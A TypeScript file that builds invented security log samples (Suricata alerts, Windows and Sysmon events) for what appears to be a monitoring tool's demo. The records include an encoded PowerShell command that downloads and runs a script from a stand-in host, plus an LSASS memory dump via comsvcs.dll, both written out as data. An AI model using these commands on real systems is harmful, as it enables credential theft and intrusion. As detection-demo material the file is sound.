/**
 * The sample that a first start shows: one bad day at an invented company. Outside addresses are from RFC 5737, names from
 * RFC 2606; nobody's real traffic. `first-start.ndjson` beside this file is these records, one a line; a test keeps the two equal.
 */
type Json = Readonly<Record<string, unknown>>;

const day = Date.UTC(2026, 2, 3);
let serial = 0;

/** Milliseconds since 1970 UTC of a time of that day. */
function clock(hour: number, minute: number, second = 0, milliseconds = 0): number {
  return day + ((hour * 60 + minute) * 60 + second) * 1000 + milliseconds;
}

interface Signature {
  readonly id: number;
  readonly text: string;
  readonly category: string;
  readonly severity: 1 | 2 | 3;
}

const signatures = {
  phishPage: {
    id: 1_000_101,
    text: "LOCAL PHISHING look-alike sign-in page opened",
    category: "Possible Social Engineering Attempted",
    severity: 2,
  },
  phishPost: {
    id: 1_000_102,
    text: "LOCAL PHISHING password sent to look-alike sign-in page",
    category: "Successful Credential Theft Detected",
    severity: 1,
  },
  bruteForce: {
    id: 1_000_103,
    text: "LOCAL SSH brute force attempt",
    category: "Attempted Administrator Privilege Gain",
    severity: 2,
  },
  scan: {
    id: 1_000_104,
    text: "LOCAL SCAN port sweep",
    category: "Detection of a Network Scan",
    severity: 3,
  },
  beacon: {
    id: 1_000_105,
    text: "LOCAL MALWARE check-in to unlisted server",
    category: "Malware Command and Control Activity Detected",
    severity: 1,
  },
  torrent: {
    id: 1_000_106,
    text: "LOCAL POLICY BitTorrent peer traffic",
    category: "Potential Corporate Privacy Violation",
    severity: 1,
  },
  upload: {
    id: 1_000_107,
    text: "LOCAL possible exfiltration: large upload to new destination",
    category: "Potentially Bad Traffic",
    severity: 1,
  },
} as const satisfies Record<string, Signature>;

function eve(at: number, src: readonly [string, number], dest: readonly [string, number], rest: Json): Json {
  serial++;
  return {
    timestamp: new Date(at).toISOString().replace("Z", "000+0000"),
    flow_id: 700_000_000 + serial,
    src_ip: src[0],
    src_port: src[1],
    dest_ip: dest[0],
    dest_port: dest[1],
    proto: "TCP",
    ...rest,
  };
}

function fired({ id, text, category, severity }: Signature): Json {
  return {
    event_type: "alert",
    alert: { action: "allowed", gid: 1, signature_id: id, rev: 1, signature: text, category, severity },
  };
}

function windows(
  at: number,
  host: string,
  log: "Security" | "System" | "Sysmon",
  id: number,
  rest: Json,
): Json {
  serial++;
  const sysmon = log === "Sysmon";
  return {
    "@timestamp": new Date(at).toISOString(),
    TimeCreated: new Date(at).toISOString(),
    EventID: id,
    Channel: sysmon ? "Microsoft-Windows-Sysmon/Operational" : log,
    SourceName: sysmon
      ? "Microsoft-Windows-Sysmon"
      : log === "Security"
        ? "Microsoft-Windows-Security-Auditing"
        : "Service Control Manager",
    Hostname: host,
    RecordNumber: 41_000 + serial,
    ...rest,
  };
}

interface Started {
  readonly image: string;
  readonly command: string;
  readonly guid: string;
  readonly parent: string;
  readonly parentGuid: string;
  readonly user: string;
}

function started(at: number, host: string, process: Started): Json {
  return windows(at, host, "Sysmon", 1, {
    UtcTime: new Date(at).toISOString().replace("T", " ").replace("Z", ""),
    ProcessGuid: process.guid,
    Image: process.image,
    CommandLine: process.command,
    ParentProcessGuid: process.parentGuid,
    ParentImage: process.parent,
    User: process.user,
  });
}

const finance = "ws-finance-07.example.com";
const clerk = "EXAMPLE\\d.okafor";
const word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const rundll = "C:\\Windows\\System32\\rundll32.exe";
const lsass = "C:\\Windows\\system32\\lsass.exe";

const shell = { guid: "{0f1e0000-0002-0000-0000-000000000000}", image: powershell };
const dump = { guid: "{0f1e0000-0003-0000-0000-000000000000}", image: rundll };

/** A macro, an encoded download, a dump of LSASS, and the log cleared behind it. */
function credentialTheft(): readonly Json[] {
  return [...infection(), ...memoryDump(), ...quietHost(finance, clock(9, 5), clerk, 8)];
}

function infection(): readonly Json[] {
  // IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')
  const encoded =
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEALgBwAHMAMQAnACkA";
  return [
    started(clock(9, 12, 4), finance, {
      image: word,
      command: `"${word}" /n "C:\\Users\\d.okafor\\Downloads\\invoice-2291.docm"`,
      guid: "{0f1e0000-0001-0000-0000-000000000000}",
      parent: "C:\\Windows\\explorer.exe",
      parentGuid: "{0f1e0000-0000-0000-0000-000000000000}",
      user: clerk,
    }),
    started(clock(9, 12, 31), finance, {
      ...shell,
      command: `powershell.exe -NoP -W Hidden -Enc ${encoded}`,
      parent: word,
      parentGuid: "{0f1e0000-0001-0000-0000-000000000000}",
      user: clerk,
    }),
    windows(clock(9, 12, 33), finance, "Sysmon", 3, {
      ProcessGuid: shell.guid,
      Image: powershell,
      User: clerk,
      Protocol: "tcp",
      Initiated: "true",
      SourceIp: "10.20.4.31",
      SourcePort: "50112",
      DestinationIp: "198.51.100.23",
      DestinationPort: "80",
    }),
  ];
}

function memoryDump(): readonly Json[] {
  return [
    started(clock(9, 20, 2), finance, {
      ...dump,
      command: `"${rundll}" C:\\Windows\\System32\\comsvcs.dll, MiniDump 684 C:\\Users\\Public\\m.bin full`,
      parent: powershell,
      parentGuid: shell.guid,
      user: clerk,
    }),
    windows(clock(9, 20, 2, 180), finance, "Sysmon", 10, {
      SourceProcessGUID: dump.guid,
      SourceImage: rundll,
      TargetImage: lsass,
      GrantedAccess: "0x1fffff",
    }),
    windows(clock(9, 20, 3), finance, "Security", 4663, {
      SubjectUserName: "d.okafor",
      SubjectDomainName: "EXAMPLE",
      ObjectName: "\\Device\\HarddiskVolume3\\Windows\\System32\\lsass.exe",
      AccessMask: "0x10",
      ProcessName: rundll,
    }),
    windows(clock(9, 26, 40), finance, "Security", 1102, {
      SourceName: "Microsoft-Windows-Eventlog",
      Message:
        "The audit log was cleared.\r\nSubject:\r\n\tAccount Name:\td.okafor\r\n\tDomain Name:\tEXAMPLE",
    }),
  ];
}

/** What a host records when nothing is wrong. */
function quietHost(host: string, from: number, user: string, count: number): readonly Json[] {
  const programs = [
    "svchost.exe -k netsvcs -p",
    "taskhostw.exe",
    "SearchIndexer.exe /Embedding",
    "RuntimeBroker.exe -Embedding",
  ];
  return Array.from({ length: count }, (_, i) => {
    const command = programs[i % programs.length] ?? "svchost.exe";
    return started(from + i * 173_000, host, {
      image: `C:\\Windows\\System32\\${command.split(" ")[0] ?? ""}`,
      command: `C:\\Windows\\System32\\${command}`,
      guid: `{0f1e${host.length.toString(16).padStart(4, "0")}-10${String(i).padStart(2, "0")}-0000-0000-000000000000}`,
      parent: "C:\\Windows\\System32\\services.exe",
      parentGuid: "{0f1e0000-00ff-0000-0000-000000000000}",
      user: i % 2 === 0 ? "NT AUTHORITY\\SYSTEM" : user,
    });
  });
}

function phishing(): readonly Json[] {
  const page = (url: string, method: string): Json => ({
    app_proto: "http",
    http: { hostname: "signin.example.net", url, http_method: method, status: 200 },
  });
  return [
    eve(clock(10, 2, 11), ["10.20.4.17", 51_022], ["203.0.113.80", 80], {
      ...fired(signatures.phishPage),
      ...page("/owa/login.php", "GET"),
    }),
    eve(clock(10, 2, 12), ["10.20.4.17", 51_023], ["203.0.113.80", 80], {
      ...fired(signatures.phishPage),
      ...page("/owa/style/logo.png", "GET"),
    }),
    eve(clock(10, 2, 58), ["10.20.4.17", 51_030], ["203.0.113.80", 80], {
      ...fired(signatures.phishPost),
      ...page("/owa/login.php", "POST"),
    }),
    eve(clock(10, 2, 59), ["10.20.4.17", 51_031], ["203.0.113.80", 80], {
      ...fired(signatures.phishPage),
      ...page("/owa/done.html", "GET"),
    }),
  ];
}

function passwordGuessing(): readonly Json[] {
  return Array.from({ length: 22 }, (_, i) =>
    eve(clock(3, 40, 0) + i * 2_700, ["203.0.113.50", 40_100 + i * 7], ["10.20.1.5", 22], {
      ...fired(signatures.bruteForce),
      app_proto: "ssh",
    }),
  );
}

/** Nearly every 60 seconds, as a program calls and a person never does. */
function beaconing(): readonly Json[] {
  const jitterMs = [0, 900, -700, 300, 1100, -400, 200, -900, 600, 0, -300, 800, -100, 500, -600, 400];
  return jitterMs.map((jitter, i) =>
    eve(clock(11, 15) + i * 60_000 + jitter, ["10.20.4.33", 52_000 + i], ["198.51.100.77", 4443], {
      ...fired(signatures.beacon),
      app_proto: "tls",
      tls: { sni: "cdn.example.org", version: "TLS 1.2" },
    }),
  );
}

const files = "srv-files-02.example.com";

function coveredTracks(): readonly Json[] {
  return [
    windows(clock(22, 14, 8), files, "Security", 4624, {
      TargetUserName: "svc-backup",
      TargetDomainName: "EXAMPLE",
      LogonType: "3",
      IpAddress: "10.20.4.61",
      IpPort: "50871",
    }),
    windows(clock(22, 15, 30), files, "Security", 5145, {
      SubjectUserName: "svc-backup",
      SubjectDomainName: "EXAMPLE",
      IpAddress: "10.20.4.61",
      ShareName: "\\\\*\\ADMIN$",
      RelativeTargetName: "Temp\\upd.exe",
      AccessMask: "0x2",
    }),
    windows(clock(22, 15, 42), files, "System", 7045, {
      ServiceName: "UpdHelper",
      ImagePath: "C:\\Windows\\Temp\\upd.exe -s",
      ServiceType: "user mode service",
      StartType: "demand start",
      AccountName: "LocalSystem",
    }),
    windows(clock(22, 31, 5), files, "Security", 1102, {
      SourceName: "Microsoft-Windows-Eventlog",
      Message:
        "The audit log was cleared.\r\nSubject:\r\n\tAccount Name:\tsvc-backup\r\n\tDomain Name:\tEXAMPLE",
    }),
    windows(clock(22, 31, 6), files, "System", 104, {
      SourceName: "Microsoft-Windows-Eventlog",
      Message: "The System log file was cleared.",
    }),
    ...quietHost(files, clock(22, 5), "EXAMPLE\\svc-backup", 5),
  ];
}

function fileSharing(): readonly Json[] {
  return [4, 9, 15, 28, 41].map((minute, i) =>
    eve(
      clock(14, minute),
      ["10.20.5.8", 53_300 + i],
      [`198.51.100.${140 + i * 9}`, 6881],
      fired(signatures.torrent),
    ),
  );
}

/** Three senders look over the public addresses. */
function scanning(): readonly Json[] {
  const ports = [21, 22, 23, 25, 80, 110, 443, 445, 1433, 3306, 3389, 5432, 5900, 8080];
  return ports.map((port, i) =>
    eve(
      clock(1, 12, i * 3),
      [`203.0.113.${[91, 91, 91, 14, 200][i % 5] ?? 91}`, 44_000 + i],
      [`192.0.2.${10 + (i % 4)}`, port],
      fired(signatures.scan),
    ),
  );
}

function upload(): readonly Json[] {
  return [0, 1, 2].map((i) =>
    eve(clock(23, 2 + i * 6), ["10.20.1.12", 49_800 + i], ["198.51.100.201", 443], {
      ...fired(signatures.upload),
      app_proto: "tls",
      tls: { sni: "drop.example.org", version: "TLS 1.3" },
      flow: {
        pkts_toserver: 61_000,
        pkts_toclient: 9_000,
        bytes_toserver: 84_000_000 + i * 3_000_000,
        bytes_toclient: 540_000,
      },
    }),
  );
}

/** Flow and DNS records as Suricata writes them beside its alerts. */
function telemetry(): readonly Json[] {
  const names = ["cdn.example.org", "signin.example.net", "www.example.com", "drop.example.org"];
  return names.map((rrname, i) =>
    eve(clock(11, 14, i * 5), [`10.20.4.${31 + i}`, 55_000 + i], ["10.20.0.53", 53], {
      event_type: "dns",
      proto: "UDP",
      dns: { type: "query", rrname, rrtype: "A" },
    }),
  );
}

export function firstStartRecords(): readonly Json[] {
  serial = 0;
  return [
    scanning,
    passwordGuessing,
    credentialTheft,
    phishing,
    beaconing,
    fileSharing,
    coveredTracks,
    upload,
    telemetry,
  ].flatMap((scene) => scene());
}

/** The content of `first-start.ndjson`. */
export function firstStartNdjson(): string {
  return `${firstStartRecords()
    .map((record) => JSON.stringify(record))
    .join("\n")}\n`;
}
